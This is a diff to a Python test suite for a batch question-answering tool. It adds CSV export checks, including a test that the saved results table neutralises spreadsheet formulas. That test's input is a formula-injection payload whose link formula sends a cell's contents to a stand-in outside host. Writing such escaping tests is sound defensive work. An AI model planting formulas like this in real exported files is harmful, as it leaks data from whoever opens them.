@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from decimal import Decimal
 from pathlib import Path
@@ -11,7 +12,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from fathom.batch.folder import question_ids, render_index
+from fathom.batch.folder import BatchFolder, question_ids, render_index
 from fathom.batch.questions import format_of, lines_of, read_questions, settings_of
 from fathom.budget.ledger import Cost, SharedBudget, caps
 from fathom.config.given import read_settings
@@ -19,6 +20,7 @@ from fathom.config.groups import Judging, Profile
 from fathom.config.settings import ResearchSettings
 from fathom.errors import BudgetExceeded, InvalidInput
 from fathom.models.run import BatchRow, RowStatus
+from fathom.storage.store import ArtifactStore
 from tests.conftest import FathomCLI, Forked, PrefectServer, base_env
 from tests.processes import Kills, finish
 from tests.stubs import Stubs
@@ -117,6 +119,15 @@ def test_questions_together_never_pass_the_cap(cap: int, at_once: int, wanted: l
 # -- the table ----------------------------------------------------------------------------------------------------
 
 
+async def test_the_table_has_no_cell_that_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    said = '=HYPERLINK("https://example.org?"&A1)'
+    rows = [BatchRow(number=-1, question=said, answer=said, reason=said)]
+    await BatchFolder(ArtifactStore(str(tmp_path)), "one").save_results("Batch", rows)
+    (file,) = tmp_path.rglob("results.csv")
+    (row,) = csv.DictReader(file.read_text(encoding="utf-8-sig").splitlines())
+    assert {row[name] for name in ("question", "answer", "reason")} == {f"'{said}"}
+
+
 def test_the_index_links_reports_and_escapes_what_people_and_pages_wrote() -> None:
     rows = [
         BatchRow(
@@ -184,6 +195,10 @@ def test_a_question_that_failed_is_asked_again_as_the_command_says_now(
     assert done.returncode == 0, done.stderr
     rows = [json.loads(line) for line in Path(done.stdout.strip()).read_text().splitlines()]
     assert [(row["status"], row["llm_calls"]) for row in rows] == [("complete", 0), ("complete", 0)]
+    with Path(done.stdout.strip()).with_suffix(".csv").open(encoding="utf-8-sig", newline="") as file_of_rows:
+        table = [*csv.DictReader(file_of_rows)]
+    assert [row["answer"] for row in table] == [row["answer"] for row in rows]
+    assert all("[1]" in row["answer"] and row["answer_sources"] for row in table)
 
 
 def test_killed_anywhere_each_question_ends_once_and_no_call_is_repeated(
